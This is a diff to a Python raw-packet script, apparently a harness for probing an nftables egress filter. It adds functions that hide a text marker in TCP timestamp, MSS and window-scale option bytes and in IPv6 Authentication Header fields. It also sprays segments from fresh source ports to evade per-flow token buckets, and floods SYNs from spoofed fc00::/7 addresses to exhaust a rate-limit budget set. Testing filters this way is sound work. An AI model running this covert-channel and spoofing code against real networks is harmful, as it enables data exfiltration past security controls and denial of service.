@@ -46,6 +46,12 @@ def sack_opts(mark, i):
     ts = ("%08d" % i).encode()[-8:]
     return b"\x01\x01\x08\x0a" + ts + b"\x01\x01\x05\x1a" + edges
 
+def ts_opts(mark, i):
+    """The timestamps layout (NOP NOP timestamps), the one a segment that is
+    not a SYN may carry towards the block tier once the SACK layouts are
+    gone: the 8-byte marker is TSval and TSecr."""
+    return b"\x01\x01\x08\x0a" + (mark.encode() + b"........")[:8]
+
 def sniffer():
     sn = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
     sn.bind(("eth0", 0)); sn.setblocking(False)
@@ -93,7 +99,7 @@ def report(n, per, t0):
     print("sent %d packets, %d text bytes each, in %.3f seconds" % (n, per, time.monotonic() - t0), flush=True)
 
 # --- 1. IPv6 Authentication Header on an allowed connection ---------------------
-def v6_ah(s6, d6, mark, count, sport=41401, conn=True, ah_on=True):
+def v6_ah(s6, d6, mark, count, sport=41401, conn=True, ah_on=True, opts=sack_opts):
     """Bare ACKs of an allowed IPv6 TLS connection, each behind an AH whose
     ICV (996 bytes, the most a payload-length byte gives) is text.  nft's
     meta l4proto skips AH (ipv6_find_hdr), and the ruleset holds HBH,
@@ -113,10 +119,10 @@ def v6_ah(s6, d6, mark, count, sport=41401, conn=True, ah_on=True):
             ah = bytes([6, (12 + len(icv)) // 4 - 2, 0, 0]) + struct.pack("!II", 0x1000, i + 1) + icv
         else:   # the control: the same segments in the doff-15 layout, no AH
             ah = b""
-            tcp = tcp6(S6, D6, sport if conn else sport + i, dport, seq, ack, 0x10, sack_opts(mark, i))
+            tcp = tcp6(S6, D6, sport if conn else sport + i, dport, seq, ack, 0x10, opts(mark, i))
         ip = struct.pack("!IHBB", 0x60000000, len(ah) + len(tcp), 51 if ah_on else 6, 64) + S6 + D6
         r6.sendto(ip + ah + tcp, (d6, 0))
-    report(int(count), len(icv) if ah_on else 32, t0)
+    report(int(count), len(icv) if ah_on else len(opts(mark, 0)) - 4, t0)
     time.sleep(0.5)
     if c: c.close()
 
@@ -361,16 +367,17 @@ def frag_opt(s4, d4, mark, count):
     c.close()
 
 # --- 4. the token bucket's key: a fresh 5-tuple each segment ---------------------
-def port_spray(s4, d4, mark, count, flags=0x10):
-    """Bare segments (ACK, or RST) with the doff-15 layout to cn:9000, each
-    from its own source port: no handshake (conntrack picks an ACK up as a
-    new connection; a RST it calls invalid) and each 5-tuple its own bucket."""
+def port_spray(s4, d4, mark, count, flags=0x10, opts=sack_opts):
+    """Bare segments (ACK, or RST) with the doff-15 layout (or OPTS') to
+    cn:9000, each from its own source port: no handshake (conntrack picks an
+    ACK up as a new connection; a RST it calls invalid) and each 5-tuple its
+    own bucket."""
     r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     t0 = time.monotonic()
     for i in range(int(count)):
         sport = 10000 + i % 50000
-        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 9000, 1000 + i, 5000, flags, sack_opts(mark, i)), i), (d4, 0))
-    report(int(count), 32, t0)
+        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, sport, 9000, 1000 + i, 5000, flags, opts(mark, i)), i), (d4, 0))
+    report(int(count), len(opts(mark, 0)) - 4, t0)
 
 def bucket_full(s4, d4, mark, count, fill=270000, sport=41410):
     """First FILL RSTs without text, each its own 5-tuple (source port x
@@ -412,6 +419,38 @@ def syn_spray(s4, d4, mark, count):
         opt = b"\x02\x04" + b"CO" + b"\x01\x03\x03" + b"N" + b"\x01\x01\x08\x0a" + m + b"\x04\x02\x00\x00"
         r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, 20000 + i % 40000, 8443, 7777 + i, 0, 0x02, opt), i), (d4, 0))
     report(int(count), 11, t0)
+
+def syn_spray_ts0(s4, d4, mark, count):
+    """The same SYNs with TSecr 0, as a SYN's is (RFC 7323): they match the
+    layout, and only the MSS value, the shift and TSval are free (7 bytes:
+    the marker's first 7).  What bounds them is the client's budget."""
+    m = mark.encode()[:7]
+    r4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    t0 = time.monotonic()
+    for i in range(int(count)):
+        opt = b"\x02\x04" + m[:2] + b"\x01\x03\x03" + m[2:3] + b"\x01\x01\x08\x0a" + m[3:7] + b"\0\0\0\0" + b"\x04\x02\x00\x00"
+        r4.sendto(ip4(s4, d4, 6, tcp4(s4, d4, 20000 + i % 40000, 8443, 7777 + i, 0, 0x02, opt), i), (d4, 0))
+    report(int(count), 7, t0)
+
+def budget_fill6(s6, d6, mark, count):
+    """COUNT SYNs to cn:443 from as many /64s of fc00::/7 (spoofed, in
+    frames to the gateway's MAC), each carrying a ClientHello's first bytes:
+    the hello rule draws each from its /64's budget, one element each, so
+    COUNT above the set's size fills undecided_budget6."""
+    l = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    l.bind(("eth0", 0))
+    src_mac = open("/sys/class/net/eth0/address").read().strip()
+    eth = bytes.fromhex(os.environ["EF_GW_MAC"].replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x86\xdd"
+    D6 = socket.inet_pton(socket.AF_INET6, d6)
+    hello = b"\x16\x03\x01\x00\x40\x01" + b"\0" * 58
+    t0 = time.monotonic()
+    for i in range(int(count)):
+        S6 = socket.inet_pton(socket.AF_INET6, "fc00:0:%x:%x::2" % (i >> 16, i & 0xffff))
+        t = struct.pack("!HHIIBBHHH", 20000 + i % 40000, 443, 1000 + i, 0, 5 << 4, 0x02, 64240, 0, 0) + hello
+        ph = S6 + D6 + struct.pack("!IxxxB", len(t), 6)
+        t = t[:16] + struct.pack("!H", csum(ph + t)) + t[18:]
+        l.send(eth + struct.pack("!IHBB", 0x60000000, len(t), 6, 64) + S6 + D6 + t)
+    report(int(count), 0, t0)
 
 # --- 6. RSTs on a blocked connection: `refuse' accepts every RST without payload --
 def rst_blocked(s4, d4, mark, count):
@@ -481,6 +520,10 @@ def main():
         "ack-port-spray": lambda: port_spray(s4, d4, mark, count),
         "rst-port-spray": lambda: port_spray(s4, d4, mark, count, flags=0x14),
         "syn-spray": lambda: syn_spray(s4, d4, mark, count),
+        "syn-spray-ts0": lambda: syn_spray_ts0(s4, d4, mark, count),
+        "budget-fill6": lambda: budget_fill6(s6, d6, mark, count),
+        "ack-port-spray-ts": lambda: port_spray(s4, d4, mark, count, opts=ts_opts),
+        "v6-ack-port-spray-ts": lambda: v6_ah(s6, d6, mark, count, sport=30000, conn=False, ah_on=False, opts=ts_opts),
         "rst-blocked": lambda: rst_blocked(s4, d4, mark, count),
         "hdr-allowed": lambda: header_fields(s4, d4, mark, count),
     }[kind]()
